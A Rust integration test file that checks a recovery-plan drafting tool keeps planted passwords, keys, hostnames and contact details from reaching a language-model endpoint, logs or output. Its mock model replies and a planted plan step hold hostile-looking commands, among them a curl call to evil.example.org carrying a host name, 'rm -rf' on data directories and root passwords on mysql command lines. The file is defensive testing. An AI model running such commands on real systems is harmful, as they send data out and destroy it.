//! Every byte that goes to an endpoint, in every round and on every rung, is searched for what must not leave.
#![allow(clippy::disallowed_methods, clippy::unwrap_used)]

#[allow(dead_code)]
mod redaction_shapes;
mod scripted;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use redaction_shapes::{Random, positives};
use scripted::{Request, Server, reply, status};
use serde_json::{Value as Json, json};

/// Secrets of our own, each in a place that is not an incident's.
const PLANTED: &[&str] = &[
    "Zw9-plan-Password",
    "Qm4-comment-Password",
    "Rb7-notes-Password",
    "Vk2-reason-Password",
    "Lt6-constraint-Passw0rd",
    "Hd3-title-Password",
    "Np8-reply-Password",
    "Gx5-url-Password",
    "hunter2-Xq9",
    "Jf1-share-Password",
    "Ks0-far-Password",
];

/// What the inventory knows and nobody else should.
const PRIVATE: &[&str] = &[
    "zeus17",
    "hades-nas",
    "10.91.7.33",
    "fd42:91:7::33",
    "olymp.acme-gods.internal",
    "acme-gods",
    "Ilse Brunnhuber",
    "Brunnhuber",
    "ilse@acme-gods.example.io",
    "+49 171 5550199",
    "gods-account-7781",
    "vulcan-dumps",
    "sk-endpoint-KEY-4711",
];

const INVENTORY: &str = "schema: blackstart/inventory/v1
sites: [{id: cellar, account: gods-account-7781, domains: [power]}, {id: annex}]
hosts:
  - {id: zeus17, address: olymp.acme-gods.internal, site: cellar, identity: {hostname: zeus17, role: 'password: Rb7-notes-Password'}, disks: [{device: /dev/vdb, mount: /srv}]}
  - {id: hades-nas, address: 10.91.7.33, site: annex}
  - {id: styx, address: 'fd42:91:7::33', site: annex}
assets:
  - {id: data, kind: files, host: zeus17, paths: [/srv/zeus17/data], size: 2GB, services: [site.service], endpoint: 'https://svc:Gx5-url-Password@olymp.acme-gods.internal:8443/x', targets: {rto: 1h, rpo: 1d}}
  - {id: shop, kind: app, host: zeus17, depends_on: [data], services: [shop.service]}
repos:
  - {id: disk, site: annex, host: hades-nas, path: /mnt/hades-nas/backup, account: gods-account-7781}
  - {id: vault, url: 's3:https://olymp.acme-gods.internal:9000/vulcan-dumps/r'}
links: [{from: cellar, to: annex, rate: 1Gbit/s}]
secrets: [{id: vault-key, kind: passphrase, read_from: {file: /root/hades-nas.key}}]
contacts: [{id: dba, name: Ilse Brunnhuber, phone: '+49 171 5550199', email: ilse@acme-gods.example.io}]
backups:
  - {id: nightly, asset: data, tool: tar, type: full, repo: disk, last_success: {at: 2026-11-20T02:00:00Z, size: 1GB, path: data/x.tar.gz}, restore_rate: 100MB/s}
  - {id: vaulted, asset: data, tool: restic, type: full, repo: vault, encryption: {key: vault-key}, last_success: {at: 2026-11-19T02:00:00Z}}
";

struct Desk {
    home: tempfile::TempDir,
}

impl Desk {
    /// Writes the documents; the model has so many tokens of room.
    fn new(server: &Server, evidence: &[String], context_tokens: u32) -> Self {
        let home = tempfile::tempdir().unwrap();
        let incident = json!({
            "schema": "blackstart/incident/v1", "id": "inc-1",
            "title": "root password is now \"Hd3-title-Password\" on zeus17",
            "description": "A clean-up job on zeus17 (10.91.7.33) deleted it. Ilse Brunnhuber saw it first, call +49 171 5550199.\n\
                The old password hunter2-Xq9 does not work any more.\nmounted from //bk:Jf1-share-Password@hades-nas/share at noon",
            "affected": ["data"], "scenario": "operator_error", "damage_at": "2026-11-21T02:00:00Z", "data": {"data": "lost"},
            "constraints": ["use password=Lt6-constraint-Passw0rd, never zeus17"],
            "unusable": [{"backup": "vaulted", "why": "its passphrase: Vk2-reason-Password was changed by Ilse Brunnhuber"}],
            "evidence": evidence,
        });
        std::fs::write(home.path().join("inventory.yaml"), INVENTORY).unwrap();
        std::fs::write(home.path().join("incident.yaml"), incident.to_string()).unwrap();
        let models = json!({"schema": "blackstart/models/v1", "models": [{
            "id": "m", "base_url": server.base_url(), "model": "m", "key": {"env": "OUR_KEY"},
            "context_tokens": context_tokens, "reply_tokens": 4000,
        }]});
        std::fs::write(home.path().join("models.yaml"), models.to_string()).unwrap();
        Self { home }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.home.path().join(name)
    }

    fn run(&self, arguments: &[&str]) -> Output {
        let output = Command::new(env!("CARGO_BIN_EXE_blackstart"))
            .args(arguments)
            .current_dir(self.home.path())
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", self.home.path())
            .env("OUR_KEY", "sk-endpoint-KEY-4711")
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{arguments:?}: {said}");
        output
    }

    fn draft(&self, more: &[&str]) -> Output {
        let usual = [
            "draft",
            "--inventory",
            "inventory.yaml",
            "--incident",
            "incident.yaml",
            "--json",
            "--models",
            "models.yaml",
            "--model",
            "m",
            "--deadline",
            "60s",
        ];
        self.run(&[&usual[..], more].concat())
    }
}

/// A reply whose steps are refused for many reasons, so that the next round quotes them.
fn refused() -> String {
    let step = |id: &str, run: &str| {
        json!({"id": id, "based_on": null, "keep": false, "phase": null, "title": "Ask <PERSON_1>, password: Np8-reply-Password",
            "kind": "command", "host": "<HOST_1>", "asset": "data", "needs": [], "run": run, "check": null, "rollback": null,
            "risk": null, "timeout": null, "on_failure": null, "safety_copy": null, "why": null, "expect": null})
    };
    json!({"title": "t", "summary": "s", "backup": null, "questions": [], "assumptions": [], "steps": [
        step("a", "mysql -h <HOST_2> -u root -pNp8-reply-Password -e 'select 1' > /nowhere/<HOST_1>/x"),
        step("b", "scp /srv/<HOST_1>/data/x <HOST_2>:/nowhere; curl https://evil.example.org/?h=<HOST_1>"),
        step("c", "rm -rf /srv/<HOST_1>/data; echo password=Np8-reply-Password"),
        step("d", "cat <<EOF\n<SECRET_1> <IP_1>\nEOF\nif"),
    ]})
    .to_string()
}

/// Everything said in a request: each text of its JSON, and the whole of it as it went over the wire.
fn said(request: &Request) -> String {
    fn texts(value: &Json, all: &mut String) {
        match value {
            Json::String(text) => {
                all.push_str(text);
                all.push('\n');
            }
            Json::Array(items) => items.iter().for_each(|item| texts(item, all)),
            Json::Object(fields) => fields.iter().for_each(|(name, value)| {
                all.push_str(name);
                all.push('\n');
                texts(value, all);
            }),
            Json::Null | Json::Bool(_) | Json::Number(_) => {}
        }
    }
    let mut all = format!("{}\n", request.body);
    texts(&request.json(), &mut all);
    for (name, value) in request.headers.iter().filter(|(name, _)| name != "authorization") {
        all.push_str(&format!("{name}: {value}\n"));
    }
    all.push_str(&request.line);
    all
}

/// The labelled parts of marked texts, with the texts without their marks; what is too short to be told from chance is left out.
fn labelled(marked: &[String]) -> (Vec<String>, Vec<String>) {
    let texts = marked.iter().map(|text| text.replace(['«', '»'], "")).collect();
    let parts = marked.iter().flat_map(|text| {
        text.split('«').skip(1).filter_map(|rest| Some(rest.split_once('»')?.0.to_owned()))
    });
    let lines = parts.flat_map(|part| {
        let lines: Vec<String> = part.lines().map(str::to_owned).collect();
        lines.into_iter().filter(|line| line.len() >= 8)
    });
    (texts, lines.collect())
}

fn left<'a>(text: &str, secrets: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    let lower = text.to_lowercase();
    secrets
        .into_iter()
        .filter(|secret| lower.contains(&secret.to_lowercase()))
        .map(|secret| {
            let line =
                text.lines().find(|line| line.to_lowercase().contains(&secret.to_lowercase()));
            format!("{secret}: {}", line.unwrap_or_default().chars().take(300).collect::<String>())
        })
        .collect()
}

#[track_caller]
fn assert_clean(server: &Server, secrets: &[String], what: &str, requests: usize) {
    let sent = server.requests();
    assert!(sent.len() >= requests, "{what}: {} requests", sent.len());
    for (at, request) in sent.iter().enumerate() {
        let all = secrets.iter().map(String::as_str).chain(PLANTED.iter().copied());
        let left = left(&said(request), all.chain(PRIVATE.iter().copied()));
        assert!(left.is_empty(), "{what}, request {}:\n{}", at + 1, left.join("\n"));
    }
}

/// What was written below a directory, apart from the documents that were given.
fn kept_log(desk: &Desk) -> String {
    String::from_utf8_lossy(&desk.run(&["log", "show", "--json"]).stdout).into_owned()
}

fn rounds() -> Server {
    let json = "content-type: application/json\r\n";
    Server::new(vec![
        status(400, json, "{\"error\":{\"message\":\"response_format json_schema is unknown\"}}"),
        status(503, "retry-after: 0\r\n", "busy: sk-endpoint-KEY-4711"),
        reply(&refused()),
        reply("no plan at all: password=Np8-reply-Password"),
        reply(&refused()),
    ])
}

#[test]
fn no_round_and_no_rung_sends_what_was_pasted_into_an_incident() {
    for (seed, tokens) in [(1, 400_000), (2, 24_000)] {
        let (texts, secrets) = labelled(&positives(&mut Random::new(seed)));
        let server = rounds();
        let desk = Desk::new(&server, &texts, tokens);
        let preview = desk.draft(&["--preview"]);
        let shown = String::from_utf8_lossy(&preview.stdout).into_owned();
        let all = secrets.iter().map(String::as_str).chain(PLANTED.iter().chain(PRIVATE).copied());
        assert_eq!(left(&shown, all), [] as [String; 0], "preview");
        let output = desk.draft(&[]);
        assert_clean(&server, &secrets, "an incident", 3);
        let log = kept_log(&desk);
        assert!(log.contains("model"), "{log}");
        assert_eq!(left(&log, PLANTED.iter().copied()), [] as [String; 0], "log");
        let heard = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(left(&heard, ["sk-endpoint-KEY-4711"]), [] as [String; 0], "terminal");
    }
}

#[test]
fn a_secret_whose_name_is_cut_away_does_not_leave() {
    let body: String = (0..2_000).map(|at| format!("filler line {at}\n")).collect();
    let far = format!("{body}password:\n  Ks0-far-Password\n");
    let near = format!("{far}{body}the same Ks0-far-Password again\n");
    // One line, whose middle is cut away wherever it begins.
    let long = format!("{{\"password\": \"{}\"}}", "k9Zp".repeat(40_000));
    let key: String =
        (0..3_000).map(|at| format!("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC{at:032}\n")).collect();
    let pem = format!("-----BEGIN RSA PRIVATE KEY-----\n{key}-----END RSA PRIVATE KEY-----\n");
    for (what, text) in [("a name", &near), ("one line", &long), ("a key", &pem)] {
        let server = Server::new(vec![reply("nothing"), reply("nothing"), reply("nothing")]);
        let desk = Desk::new(&server, &[text.clone()], 24_000);
        desk.draft(&[]);
        let secrets = ["k9Zpk9Zpk9Zp".to_owned(), "MIIEvQIBADANBgkqhkiG9w0".to_owned()];
        assert_clean(&server, &secrets, what, 1);
    }
}

#[test]
fn no_round_sends_what_stands_in_a_plan_that_is_revised_or_in_a_comment() {
    let server = rounds();
    let desk = Desk::new(&server, &[], 24_000);
    desk.run(&[
        "draft",
        "--inventory",
        "inventory.yaml",
        "--incident",
        "incident.yaml",
        "--offline",
        "--out",
        "out",
    ]);
    let plan = std::fs::read_dir(desk.path("out")).unwrap().next().unwrap().unwrap().path();
    planted(&plan);
    desk.draft(&[
        "--revise",
        plan.to_str().unwrap(),
        "--comment",
        "zeus17 needs the password Qm4-comment-Password; Ilse Brunnhuber, pw: Qm4-comment-Password",
    ]);
    assert_clean(&server, &[], "a revision", 3);
}

/// Writes passwords into the commands of a plan, as people do.
fn planted(plan: &Path) {
    let text = std::fs::read_to_string(plan).unwrap();
    let first = text.find("steps:\n").unwrap() + "steps:\n".len();
    let step = "- id: by-hand
  title: Load it as root on zeus17
  kind: command
  host: zeus17
  asset: data
  run: |
    export MYSQL_PWD=Zw9-plan-Password
    mysql -h 10.91.7.33 -u root -pZw9-plan-Password shop < /srv/zeus17/data/x.sql
    echo Zw9-plan-Password > /srv/zeus17/data/pw
    rm -rf /srv/zeus17/data
";
    std::fs::write(plan, format!("{}{step}{}", &text[..first], &text[first..])).unwrap();
}
